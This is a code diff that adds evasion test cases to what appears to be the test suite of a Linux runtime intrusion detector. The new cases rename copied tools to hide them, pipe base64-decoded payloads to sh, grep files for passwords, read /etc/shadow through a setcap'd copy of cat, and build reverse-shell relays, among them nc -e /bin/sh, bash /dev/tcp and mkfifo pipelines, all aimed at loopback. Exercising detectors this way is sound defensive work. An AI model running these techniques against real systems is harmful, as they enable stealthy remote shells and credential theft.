@@ -512,6 +512,26 @@ def kernel_facts(c, t, nob):
         LIBC + "fd = libc.syscall(430, b'ext4', 1)\nassert fd >= 0, ctypes.get_errno()\n"
         f"libc.syscall(431, fd, 1, b'source', b'/dev/vigil-{c.MARK}', 0)\nos.close(fd)"),
         fields={"evt.type": "fsconfig", "evt.arg.value": f"/dev/vigil-{c.MARK}"})
+    # VG-039: sources spelled through a symlink, resolved as the kernel does
+    # (absolute, relative to the cwd, a device behind a link; open_tree too)
+    os.symlink("/etc", f"{ev}/cfg")
+    os.symlink("/dev/null", f"{ev}/disk")
+    c.expect("VG-039", "python mount(~/cfg -> /etc, MS_BIND)", c.py(
+        private + f"libc.mount(b'{ev}/cfg', b'{mnt}', None, 0x1000, None)"),
+        fields={"evt.type": "mount", "evt.arg.dev": f"{ev}/cfg", "vigil.mount.source": "/etc"})
+    # relative: resolved against /proc/PID/cwd while the process lives (a
+    # process that mounts something uses it; this one lingers a second)
+    c.expect("VG-039", "python mount(cfg relative to the cwd, MS_BIND)", c.py(
+        private + f"os.chdir('{ev}')\nlibc.mount(b'cfg', b'{mnt}', None, 0x1000, None)\n"
+        "import time; time.sleep(1)"),
+        fields={"evt.type": "mount", "evt.arg.dev": "cfg", "vigil.mount.source": "/etc"})
+    c.expect("VG-039", "open_tree(~/cfg -> /etc)", c.py(
+        LIBC + f"fd = libc.syscall(428, -100, b'{ev}/cfg', 1 | 0o2000000)\n"
+        "assert fd >= 0, ctypes.get_errno()\nos.close(fd)"),
+        fields={"evt.type": "open_tree", "vigil.mount.source": "/etc"})
+    c.expect("VG-039", "mount of a device through a symlink (fails)", c.py(
+        private + f"libc.mount(b'{ev}/disk', b'{mnt}', b'ext4', 0, None)"),
+        fields={"evt.type": "mount", "vigil.mount.source": "/dev/null"})
     # VG-038: root from a setuid-root copy with no setuid call; group 0 by setgroups
     suid = f"{ev}/suid-py-{c.MARK}"
     shutil.copy(os.path.realpath(c.PY), suid)
@@ -528,6 +548,25 @@ def kernel_facts(c, t, nob):
         "w = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)\n"
         "x = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_EXEC)"),
         fields={"evt.arg.path": "/memfd:jit", "evt.arg.file_writable": 1})
+    # VG-037: never W+X at once: written while RW, then flipped to RX by
+    # mprotect (anonymous memory, and a private file mapping written copy-on-write)
+    flip = ("import ctypes, mmap\nlibc = ctypes.CDLL(None)\n{m}\nm.write(b'\\xc3')\n"
+            "a = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
+            "assert libc.mprotect(ctypes.c_void_p(a), 4096, mmap.PROT_READ | mmap.PROT_EXEC) == 0")
+    c.expect("VG-037", "anonymous RW written, then mprotect RX", c.py(flip.format(
+        m="m = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)")),
+        fields={"evt.type": "mprotect", "evt.arg.was_written": 1})
+    with open(f"{ev}/blob-{c.MARK}", "wb") as f:
+        f.write(b"\0" * 4096)
+    c.expect("VG-037", "private file mapping written, then mprotect RX", c.py(flip.format(
+        m=f"f = open('{ev}/blob-{c.MARK}', 'rb')\n"
+          "m = mmap.mmap(f.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)")),
+        fields={"evt.type": "mprotect", "evt.arg.was_written": 1})
+    c._ordinary.append(("mprotect RX of anonymous memory never written", c.py(
+        "import ctypes, mmap\nlibc = ctypes.CDLL(None)\n"
+        "m = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)\n"
+        "a = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
+        "libc.mprotect(ctypes.c_void_p(a), 4096, mmap.PROT_READ | mmap.PROT_EXEC)"), None))
     shm = f"/dev/shm/vigil-{c.MARK}-wx"
     c.expect("VG-037", "/dev/shm file: writable mapping, executable mapping by a read-only fd", c.py(
         f"import mmap, os\nfd = os.open('{shm}', os.O_RDWR | os.O_CREAT, 0o600)\nos.ftruncate(fd, 4096)\n"
@@ -599,6 +638,147 @@ def fastopen_sendmsg(c):
     c.expect("VG-063", "sendmsg(MSG_FASTOPEN)", c.run(["unshare", "-n", c.PY, "-c",
              "import socket\ntry: socket.socket().sendmsg([b'x'], [], socket.MSG_FASTOPEN, "
              "('169.254.169.254', 80))\nexcept OSError: pass"]), fd__rip="169.254.169.254")
+
+
+def copies(c, t, home, nob, port):
+    """Class "identity", by content: a tool copied under another name is a
+    new file with a new name and inode, but it keeps the build-id its
+    linker wrote (proc.exe_tool). Decoders, grep, shells, shred and ssh
+    copied into a private directory and run under innocent names."""
+    ev = os.path.join(t, "evade-copies")
+    os.makedirs(ev)
+    os.chmod(ev, 0o755)
+
+    def copy(src, name):
+        dst = os.path.join(ev, name)
+        shutil.copy(src, dst)
+        os.chmod(dst, 0o755)
+        return dst
+
+    payload = "ZWNobyB2aWdpbAo="  # "echo vigil"
+    # VG-043: a copy of base64 in a pipeline a running bash builds, and a
+    # copy of xxd; each stage execs on its own with innocent words
+    dec = copy("/usr/bin/base64", "fmt-conv")
+    rev = copy("/usr/bin/xxd", "hexview")
+    runner = copy("/bin/dash", "runner")
+    for name, line in [("base64 copy", f"echo {payload} | {dec} -d | sh"),
+                       ("xxd copy", f"printf 'echo vigil\\n' | xxd -p | {rev} -r -p | sh"),
+                       ("shell copy", f"echo {payload} | base64 -d | {runner}")]:
+        script = f"{ev}/pipeline-{name.split()[0]}-{c.MARK}.sh"
+        with open(script, "w") as f:
+            f.write(line + "\n")
+        c.run(["bash", script])
+        c.expect("VG-043", f"{name} | sh built by a running bash", marker=script)
+    # VG-020: a copy of grep (not a link: its own inode) searching for passwords
+    os.makedirs(f"{ev}/src")
+    finder = copy("/usr/bin/grep", "lookup")
+    c.expect("VG-020", "grep copied as lookup, -ri passw.rd",
+             c.run([finder, "-ri", "passw.rd", f"{ev}/src"]),
+             fields={"proc.name": "lookup", "proc.exe_tool": "grep"})
+    # VG-020: the needle in a pattern file (-f), absolute and relative to the cwd
+    with open(f"{ev}/pats-{c.MARK}", "w") as f:
+        f.write("nothing\npa[s]sw.rd\n")
+    c.expect("VG-020", "grep -r -f FILE", c.run(["grep", "-r", "-f", f"{ev}/pats-{c.MARK}", f"{ev}/src"]),
+             fields={"proc.name": "grep"})
+    c.expect("VG-020", "grep -rf FILE relative to the cwd",
+             c.run(["grep", "-rf", f"pats-{c.MARK}", "src"], cwd=ev), fields={"proc.name": "grep"})
+    # VG-020: ripgrep read with its own options (recursive by default, smart
+    # case), and a copy of it under another name
+    c.expect("VG-020", "rg -S pass.ord (smart case, recursive by default)",
+             c.run(["rg", "-S", "pass.ord", f"{ev}/src"]), fields={"proc.name": "rg", "proc.exe_tool": "rg"})
+    c.expect("VG-020", "rg copied as scan, -i PASS.ORD",
+             c.run([copy(shutil.which("rg") or "/usr/bin/rg", "scan"), "-i", "PASS.ORD", f"{ev}/src"]),
+             fields={"proc.name": "scan", "proc.exe_tool": "rg"})
+    # VG-041: OpenBSD netcat copied under another name, asked to run a shell
+    # (this netcat has no -e: it refuses and exits)
+    nc = os.path.realpath(shutil.which("nc") or "/bin/nc")
+    c.expect("VG-041", "nc copied as relay, -e /bin/sh",
+             c.run([copy(nc, "relay"), "-e", "/bin/sh", "127.0.0.1", "9"]),
+             fields={"proc.name": "relay", "proc.exe_tool": "nc"})
+    # VG-045: a copy of bash as a service account's interactive shell
+    sh = copy("/bin/bash", "cronjob")
+    c.expect("VG-045", "bash copied as cronjob, as daemon",
+             c.run(c.DAEMON + [sh, "--norc", "-i", "-c", f"echo {c.MARK}-copy"]),
+             fields={"user.uid": 1, "proc.name": "cronjob"})
+    # VG-006: a copy of shred
+    with open(f"{ev}/secret-{c.MARK}", "w") as f:
+        f.write("secret\n" * 10)
+    c.expect("VG-006", "shred copied as tidy",
+             c.run([copy("/usr/bin/shred", "tidy"), "-u", f"{ev}/secret-{c.MARK}"]),
+             fields={"proc.name": "tidy"})
+    # VG-065: a copy of bash connecting through /dev/tcp
+    upd = copy("/bin/bash", "updater")
+    c.run([upd, "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo {c.MARK}-copynet >&3"], timeout=30)
+    c.expect("VG-065", "bash copied as updater to /dev/tcp", marker=f"{c.MARK}-copynet", fd__rport=port)
+    # VG-062: a copy of ssh to a non-standard port
+    c.expect("VG-062", "ssh copied as sync-agent",
+             c.run([copy("/usr/bin/ssh", "sync-agent"), "-o", "BatchMode=yes", "-o", "ConnectTimeout=3",
+                    "-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o",
+                    "UserKnownHostsFile=/dev/null", "-p", "4434", "127.0.0.1", "true"]),
+             fd__rport=4434)
+    # ordinary: a tool under its own name is its own tool; a build's own
+    # program is no tool
+    c._ordinary.append(("a copy of base64 encoding", c.run([dec, "/etc/hostname"]), None))
+
+
+def capabilities(c, t):
+    """VG-038 without uid 0: a copy of cat given cap_dac_read_search with
+    setcap, run by nobody, reads /etc/shadow. No setuid bit, no set*id call;
+    the exec raised the task's permitted capabilities (vigil.caps_raised)."""
+    ev = os.path.join(t, "evade-caps")
+    os.makedirs(ev)
+    os.chmod(ev, 0o755)
+    cat = os.path.join(ev, f"reader-{c.MARK}")
+    shutil.copy("/usr/bin/cat", cat)
+    os.chmod(cat, 0o755)
+    c.run(["setcap", "cap_dac_read_search+ep", cat], check=True)
+    c.expect("VG-038", "setcap'd copy of cat run by nobody reads /etc/shadow",
+             c.run(c.NOBODY + [cat, "/etc/shadow"]),
+             fields={"proc.exepath": cat, "user.uid": 65534, "thread.cap_effective": "CAP_DAC_READ_SEARCH"})
+    c.expect("VG-038", "setcap'd copy with +p only (no effective bit) run by nobody",
+             c.run(["sh", "-c", f"cp {cat} {cat}-p && setcap cap_dac_read_search+p {cat}-p && "
+                                f"setpriv --reuid=65534 --regid=65534 --clear-groups {cat}-p /etc/hostname"]),
+             marker=f"{cat}-p")
+    # ordinary: capabilities kept, not gained (a service's ambient set)
+    c._ordinary.append(("nobody with an ambient capability runs true", c.run(
+        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=+net_bind_service",
+         "--ambient-caps=+net_bind_service", "/bin/true"]), None))
+
+
+def relays(c, t, port):
+    """VG-064 one process away: the shell reads its commands from a pipe or a
+    unix socket and a relay holds the network socket (`port`: the
+    catalogue's loopback listener, which answers "exit", so every shell
+    ends at once). A relay lives as long as its session; these stay a
+    second, as the monitor reads the relay's descriptors from /proc."""
+    ev = os.path.join(t, "evade-relay")
+    os.makedirs(ev)
+    conn = f"import socket, subprocess\ns = socket.create_connection(('127.0.0.1', {port}))\n"
+    # a python relay: the shell's stdin and stdout are pipes to it
+    c.py(conn + "data = s.recv(64)\n"
+         f"p = subprocess.Popen(['sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)  # {c.MARK}-pyrelay\n"
+         "import time; time.sleep(1)\np.communicate(data)")
+    c.expect("VG-064", "python relay: sh on pipes", marker=f"{c.MARK}-pyrelay",
+             fields={"proc.name": "sh", "proc.cmdline": "sh"})
+    # socat EXEC: style: a unix socketpair between the relay and the shell
+    c.py(conn + "a, b = socket.socketpair()\na.sendall(s.recv(64))\n"
+         f"p = subprocess.Popen(['sh', '-i'], stdin=b, stdout=b, stderr=b)  # {c.MARK}-sprelay\n"
+         "import time; time.sleep(1)\np.wait()")
+    c.expect("VG-064", "socketpair relay: sh -i on a unix socket", marker=f"{c.MARK}-sprelay",
+             fields={"proc.name": "sh", "proc.cmdline": "sh -i"})
+    # a named pipe and a network tool: cat f | sh -i | <relay> > f
+    fifo = f"{ev}/f-{c.MARK}"
+    relay = (f"import socket, sys\ns = socket.create_connection(('127.0.0.1', {port}))  # {c.MARK}-fifo\n"
+             "sys.stdout.buffer.write(s.recv(64)); sys.stdout.flush()\n"
+             "s.sendall(sys.stdin.buffer.read())")
+    script = f"{ev}/fifo-{c.MARK}.sh"
+    with open(script, "w") as f:
+        f.write(f"mkfifo {fifo}\ncat {fifo} | sh -i 2>&1 | {c.PY} -c \"{relay}\" > {fifo}\n")
+    c.run(["bash", script], timeout=30)
+    c.expect("VG-064", "mkfifo: cat f | sh -i | relay > f", marker=f"{c.MARK}-fifo",
+             fields={"evt.type": "connect"})
+    # ordinary: a shell reading a script from a pipe, its output to the terminal side
+    c._ordinary.append(("echo true | sh", c.run(["sh", "-c", "echo true | sh"]), None))
 
 
 def compat32(c, t, port):
